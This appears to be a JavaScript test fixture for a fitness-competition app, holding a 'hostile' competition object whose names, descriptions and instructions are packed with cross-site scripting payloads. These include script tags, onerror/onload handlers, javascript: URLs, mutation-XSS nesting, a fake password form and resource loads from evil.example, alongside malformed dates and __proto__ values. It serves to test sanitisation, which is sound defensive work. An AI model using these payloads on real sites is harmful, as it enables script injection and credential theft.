const markup = `
  <p onclick="window.ran = 1" style="position:fixed;inset:0">Come and lift</p>
  <script>window.ran = 1</script><SCRIPT SRC="https://evil.example/x.js"></SCRIPT>
  <img src=x onerror="window.ran = 1"><img src="https://evil.example/pixel.png" alt="the hall">
  <svg onload="window.ran = 1"><script>window.ran = 1</script><a xlink:href="javascript:window.ran=1"><text>x</text></a></svg>
  <math><mtext><table><mglyph><style><img src=x onerror="window.ran = 1"></style></mglyph></table></mtext></math>
  <iframe srcdoc="<script>parent.ran = 1</script>"></iframe><object data="javascript:window.ran=1"></object>
  <a href="javascript:window.ran=1">rules</a><a href=" java&#9;script:window.ran=1">more</a><a href="data:text/html,x">data</a>
  <form action="https://evil.example/"><input name="password"><button>Sign in</button></form>
  <style>@import url(https://evil.example/x.css); body { display: none }</style><base href="https://evil.example/">
  <meta http-equiv="refresh" content="0;url=https://evil.example/"><template><script>window.ran = 1</script></template>
  <noscript><p title="</noscript><img src=x onerror=window.ran=1>"></noscript><plaintext>`

export const hostileCompetition = {
  id: 'comp_hostile',
  name: '<img src=x onerror="window.ran = 1">',
  description: markup,
  status: 'postponed',
  time_zone: 'Mars/Olympus_Mons',
  registration_opens_at: 'soon',
  registration_closes_at: '2026-13-45T99:00:00Z',
  video_url: 'javascript:window.ran=1',
  sponsors: [{ name: 'unknown to this page' }],
  divisions: [
    {
      id: 'cd_hostile',
      name: '"><script>window.ran = 1</script>',
      kind: 'relay_of_five',
      order: 0,
      visible: true,
      events: ['ce_hostile', 'ce_gone'],
      registration_count: 99,
      registration_limit: 0,
      team_size: 5,
      males_required: null,
      females_required: 1,
    },
  ],
  events: [
    {
      id: 'ce_hostile',
      name: 'Chipper',
      kind: 'swarm',
      order: 0,
      visible: true,
      instructions: markup,
      deadline: null,
      deadline_buffer: 0.5,
      released_at: null,
      score_visibility: 'on_tuesdays',
      tie_break: 'coin',
      workout: {
        name: null,
        type: '__proto__',
        description: markup,
        details: {
          type: '__proto__',
          vest: '9/6 kg',
          movements: [
            null,
            7,
            { id: 'mv_gone', reps: { a: 1 }, load: [] },
            { id: 'mv_hostile', chains: 'two', reps: 5 },
          ],
        },
        movements: [
          {
            id: 'mv_hostile',
            name: 'Yoke <b>Carry</b>',
            description: markup,
            complex_details: 'none of the sort',
            has_reps: true,
            has_wind: true,
            source: 'elsewhere',
            video: { id: '"><script>', service: 'tape' },
          },
        ],
      },
      scaled_workout: { name: 'No details', type: 'Amrap', description: '', details: null, movements: [] },
      foundations_workout: null,
    },
  ],
}
